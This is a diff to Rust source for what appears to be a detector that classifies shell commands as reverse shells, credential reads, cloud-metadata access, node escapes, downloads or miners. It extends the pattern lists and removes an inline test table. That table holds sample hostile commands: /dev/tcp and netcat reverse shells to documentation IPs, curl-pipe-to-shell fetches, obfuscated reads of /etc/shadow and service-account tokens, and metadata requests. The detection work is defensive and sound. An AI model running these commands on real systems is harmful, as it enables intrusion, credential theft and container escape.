@@ -59,18 +59,26 @@ const CREDENTIAL_FILES: [&str; 10] = [
     "/var/run/secrets/kubernetes.io/serviceaccount/token",
 ];
 
-/// The metadata services of AWS, Azure, Oracle and Google clouds, and of Alibaba's.
-const METADATA: [&str; 4] =
-    ["fd00:ec2::254", "metadata.goog", "::ffff:a9fe:a9fe", "::ffff:a9fe:aa02"];
+/// The metadata services of AWS, Azure, Oracle and Google clouds, and of Alibaba's; those of ECS and EKS that give out the
+/// credentials of a task or pod.
+const METADATA: [&str; 5] =
+    ["fd00:ec2::254", "fd00:ec2::23", "metadata.goog", "::ffff:a9fe:a9fe", "::ffff:a9fe:aa02"];
 
 /// Their addresses, which may be written in several ways.
-const METADATA_ADDRESSES: [Ipv4Addr; 3] = [
+const METADATA_ADDRESSES: [Ipv4Addr; 4] = [
     Ipv4Addr::new(169, 254, 169, 254),
     Ipv4Addr::new(169, 254, 170, 2),
+    Ipv4Addr::new(169, 254, 170, 23),
     Ipv4Addr::new(100, 100, 100, 200),
 ];
 
-const REVERSE_SHELL: [&str; 12] = [
+const REVERSE_SHELL: [&str; 18] = [
+    "/inet/tcp/",
+    "/inet/udp/",
+    "zsh/net/tcp",
+    "ztcp ",
+    "tcpsocket.new",
+    "tcpsocket.open",
     "/dev/tcp/",
     "/dev/udp/",
     "nc -e",
@@ -151,6 +159,11 @@ impl Command {
         self.downloads() && self.readings.iter().all(Reading::names_itself_only)
     }
 
+    /// Goes on as a process of the node: in the namespaces of its first one, or below its root.
+    pub(crate) fn enters_node(&self) -> bool {
+        self.any(Reading::enters_node)
+    }
+
     /// Runs what it fetches, or what it decodes.
     pub(crate) fn runs_what_it_fetches(&self) -> bool {
         self.any(Reading::runs_what_it_fetches)
@@ -168,10 +181,17 @@ impl Reading {
     }
 
     fn is_reverse_shell(&self) -> bool {
-        let pipe_shell =
-            self.lower.contains("mkfifo") && self.has_any(&["nc ", "ncat ", "telnet "]);
-        let python = self.lower.contains("socket.socket") && self.lower.contains("subprocess");
-        self.has_any(&REVERSE_SHELL) || pipe_shell || python || self.connects_a_shell()
+        let both = |one: &[&str], other: &[&str]| self.has_any(one) && self.has_any(other);
+        let pipe_shell = both(&["mkfifo"], &["nc ", "ncat ", "telnet ", "s_client"]);
+        let python = both(&["socket.socket"], &["subprocess", "os.dup2", "pty."]);
+        let perl = both(&["use socket"], &["exec"]);
+        let node = both(&["net.connect", "net.socket", "net.createconnection"], &["child_process"]);
+        let lua = both(
+            &["socket.tcp", "require('socket')", "require(\"socket\")"],
+            &["popen", "os.execute"],
+        );
+        let interpreted = python || perl || node || lua;
+        self.has_any(&REVERSE_SHELL) || pipe_shell || interpreted || self.connects_a_shell()
     }
 
     /// `nc` and its kin with a shell to run, whichever options stand between.
@@ -194,6 +214,32 @@ impl Reading {
         let mut words = self.words();
         words.any(|word| matches!(program(word), "curl" | "wget" | "aria2c"))
             && (has_url || words.any(is_host))
+    }
+
+    fn enters_node(&self) -> bool {
+        let words: Vec<&str> = self.words().collect();
+        words.iter().enumerate().any(|(at, word)| {
+            let rest = words.get(at + 1..).unwrap_or_default();
+            let mut pairs =
+                rest.windows(2).filter_map(|pair| Some((*pair.first()?, *pair.last()?)));
+            match program(word) {
+                "nsenter" => {
+                    rest.iter().any(|it| matches!(*it, "-t1" | "--target=1"))
+                        || pairs.any(|(flag, of)| matches!(flag, "-t" | "--target") && of == "1")
+                        || rest.iter().any(|it| it.contains("/proc/1/ns/"))
+                }
+                "chroot" => rest.iter().find(|it| !it.starts_with('-')).is_some_and(|root| {
+                    const ROOTS: [&str; 5] =
+                        ["/host", "/hostfs", "/rootfs", "/node", "/proc/1/root"];
+                    let root = root.trim_end_matches('/');
+                    ROOTS.iter().any(|known| {
+                        root.strip_prefix(known)
+                            .is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
+                    })
+                }),
+                _ => false,
+            }
+        })
     }
 
     /// Whether each word with a host in it has the machine's own, with no more than a port and a path.
@@ -346,126 +392,4 @@ pub(crate) fn cut(text: &str, limit: usize) -> &str {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn commands_are_seen_for_what_they_do() {
-        type Question = fn(&Command) -> bool;
-        let table: &[(Question, &[&str], &[&str])] = &[
-            (
-                Command::reads_credentials,
-                &[
-                    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
-                    "cat /proc/1/environ",
-                    "strings /proc/42/environ",
-                    "cat /e?c/sh*ow",
-                    "cat /var/run/secrets/*/serviceaccount/tok?n",
-                    "c'a't /etc/sha\\dow",
-                    "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh",
-                ],
-                &[
-                    "cat /etc/hostname",
-                    "env",
-                    "ls /etc/*",
-                    "ls /etc/h*",
-                    "cat /opt/sh?dow",
-                    "ls /proc/1",
-                ],
-            ),
-            (
-                Command::reaches_metadata,
-                &[
-                    "curl -s http://169.254.169.254/latest/meta-data/",
-                    "curl metadata.google.internal",
-                    "curl http://2852039166/latest",
-                    "curl 0xa9fea9fe",
-                    "curl http://0251.0376.0251.0376/",
-                    "curl http://169.254.43518/",
-                    "curl http://0xa9.0xfe.0xa9.0xfe:80/",
-                    "curl http://[::ffff:a9fe:a9fe]/",
-                    "curl 100.100.100.200.",
-                ],
-                &[
-                    "curl http://10.0.0.1/",
-                    "sleep 2852039167",
-                    "curl 169.254.169.253",
-                    "ls 1.2.3.4.5 256.1.1.1",
-                ],
-            ),
-            (
-                Command::is_reverse_shell,
-                &[
-                    "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
-                    "rm f; mkfifo f; cat f | sh -i 2>&1 | nc 198.51.100.7 4444 > f",
-                    "ncat --ssl 198.51.100.7 4444 -e /bin/bash",
-                    "sh -c '/usr/bin/nc 198.51.100.7 4444 -nve sh;'",
-                    "netcat --exec bash 198.51.100.7 4444",
-                ],
-                &["nc -z db 5432", "bash -i", "bash -c nc -vz db 1", "sh -e bash"],
-            ),
-            (
-                Command::is_miner,
-                &["/tmp/.x -o stratum+tcp://pool.example.net:3333", "./xmrig --donate-level 1"],
-                &["/app/miner-dashboard", "determiner"],
-            ),
-            (
-                Command::downloads,
-                &[
-                    "wget -q http://198.51.100.23/x -O /tmp/.x",
-                    "sh -c 'curl -fsSL https://x.example'",
-                    "/usr/bin/wget -q 198.51.100.23/x",
-                    "curl x.example:8080",
-                    "w''get x.example/a",
-                ],
-                &[
-                    "echo https://x.example",
-                    "curl --version",
-                    "wget -O /tmp/x",
-                    "echo x.example; curl -V",
-                ],
-            ),
-            (
-                Command::runs_what_it_fetches,
-                &[
-                    "sh -c curl -fsSL http://198.51.100.23/w.sh | sh",
-                    "echo aGk= | base64 -d | /bin/bash",
-                    "wget http://x.example/a -O a && chmod +x a && ./a",
-                    "cu''rl x.example/a | b\\ash",
-                ],
-                &["curl https://x.example | jq .", "cat a.sh | sh"],
-            ),
-            (
-                Command::archives_to_stdout,
-                &[
-                    "tar cf - /data",
-                    "sh -c tar -czf - /data",
-                    "/bin/tar -C /data -c .",
-                    "tar --create --file=- /data",
-                    "tar c /data | nc x 1",
-                ],
-                &[
-                    "tar xf -",
-                    "start cf -",
-                    "tar -C /tmp -xf -",
-                    "tar cf /tmp/a.tar /data",
-                    "ls tar",
-                ],
-            ),
-        ];
-        for (question, yes, no) in table {
-            for line in *yes {
-                assert!(question(&Command::new(line)), "{line}");
-            }
-            for line in *no {
-                assert!(!question(&Command::new(line)), "{line}");
-            }
-        }
-    }
-
-    #[test]
-    fn what_is_shown_is_cut_and_redacted() {
-        assert_eq!(shown("mysql --password=hunter2", 80), "mysql --password=«redacted»");
-        assert_eq!(shown("äöü", 2), "äö…");
-    }
-}
+mod tests;
